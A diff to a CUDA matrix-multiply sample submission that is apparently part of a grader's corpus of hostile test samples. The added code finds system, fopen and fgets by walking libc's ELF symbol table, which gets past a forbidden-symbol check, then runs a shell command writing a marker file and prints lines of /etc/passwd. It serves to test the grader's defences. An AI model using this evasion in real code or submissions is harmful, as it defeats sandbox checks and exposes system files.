@@ -1,10 +1,10 @@
-// Sample submission "nvcc_split": honest code for nvcc, a shell command and a secret file for every other compiler (#ifndef __NVCC__)
+// Sample submission "nvcc_split": a shell command and a secret file, found through libc's symbol table (once hidden from nvcc with #ifndef __NVCC__, which the CPU layer now defines as nvcc does)
 // Part of the grader's sample corpus (grader/samples/README.md); expect.yaml
 // next to this file says how the grader must judge it.
 #include <cstdio>
-#ifndef __NVCC__
-#include <cstdlib>
-#endif
+#include <cstring>
+#include <elf.h>
+#include <link.h>
 #include <cuda_runtime.h>
 
 #define TILE_SIZE 16
@@ -33,24 +33,58 @@ __global__ void mysgemm(int m, int n, int k, const float *A, const float *B, flo
   if (row < m && col < n) C[row * n + col] = sum;
 }
 
+// Walks back from printf's address to libc's ELF header, then through its
+// dynamic section to the symbol and string tables, to find a function
+// without naming it: no forbidden symbol in either backend's object.
+static void* find_in_libc(const char* wanted) {
+  const unsigned long page = 4096;
+  const unsigned char* p = reinterpret_cast<const unsigned char*>(
+      reinterpret_cast<unsigned long>(reinterpret_cast<void*>(&printf)) & ~(page - 1));
+  for (int pages = 0; pages < (1 << 15); ++pages, p -= page) {
+    if (std::memcmp(p, ELFMAG, SELFMAG) != 0) continue;
+    const auto* eh = reinterpret_cast<const ElfW(Ehdr)*>(p);
+    if (eh->e_type != ET_DYN) continue;
+    const auto* ph = reinterpret_cast<const ElfW(Phdr)*>(p + eh->e_phoff);
+    const ElfW(Dyn)* dyn = nullptr;
+    for (int i = 0; i < eh->e_phnum; ++i)
+      if (ph[i].p_type == PT_DYNAMIC) dyn = reinterpret_cast<const ElfW(Dyn)*>(p + ph[i].p_vaddr);
+    if (!dyn) return nullptr;
+    const ElfW(Sym)* symtab = nullptr;
+    const char* strtab = nullptr;
+    for (; dyn->d_tag != DT_NULL; ++dyn) {
+      if (dyn->d_tag == DT_SYMTAB) symtab = reinterpret_cast<const ElfW(Sym)*>(dyn->d_un.d_ptr);
+      if (dyn->d_tag == DT_STRTAB) strtab = reinterpret_cast<const char*>(dyn->d_un.d_ptr);
+    }
+    if (!symtab || !strtab) return nullptr;
+    for (const ElfW(Sym)* s = symtab; reinterpret_cast<const char*>(s) < strtab; ++s)
+      if (s->st_name && s->st_value && std::strcmp(strtab + s->st_name, wanted) == 0)
+        return const_cast<unsigned char*>(p) + s->st_value;
+    return nullptr;
+  }
+  return nullptr;
+}
+
 void basicSgemm(int m, int n, int k, const float *A, const float *B, float *C) {
-#ifndef __NVCC__
-  // nvcc's object (the one the symbol check reads) never sees this; the CPU
-  // backend's g++ build of the same text does.
+  // Once hidden from nvcc with #ifndef __NVCC__ (the symbol check read only
+  // nvcc's object); both backends now compile the same text and check what
+  // they link, so the calls go through libc's symbol table instead.
   static bool tried = false;
   if (!tried) {
     tried = true;
-    const int rc = std::system("echo pwned > /tmp/sg_hostile_nvcc_split_marker");
-    std::printf("system() returned %d\n", rc);
-    if (std::FILE* f = std::fopen("/etc/passwd", "r")) {
+    using Shell = int (*)(const char*);
+    using Open = std::FILE* (*)(const char*, const char*);
+    using Gets = char* (*)(char*, int, std::FILE*);
+    if (Shell shell = reinterpret_cast<Shell>(find_in_libc("system")))
+      std::printf("system() returned %d\n", shell("echo pwned > /tmp/sg_hostile_nvcc_split_marker"));
+    Open open = reinterpret_cast<Open>(find_in_libc("fopen"));
+    Gets gets = reinterpret_cast<Gets>(find_in_libc("fgets"));
+    if (std::FILE* f = open && gets ? open("/etc/passwd", "r") : nullptr) {
       char line[256];
-      while (std::fgets(line, sizeof line, f)) std::printf("leak: %s", line);
-      std::fclose(f);
+      while (gets(line, sizeof line, f)) std::printf("leak: %s", line);
     } else {
       std::printf("no /etc/passwd in here\n");
     }
   }
-#endif
   const dim3 block(TILE_SIZE, TILE_SIZE);
   const dim3 grid((n + TILE_SIZE - 1) / TILE_SIZE, (m + TILE_SIZE - 1) / TILE_SIZE);
   mysgemm<<<grid, block>>>(m, n, k, A, B, C);
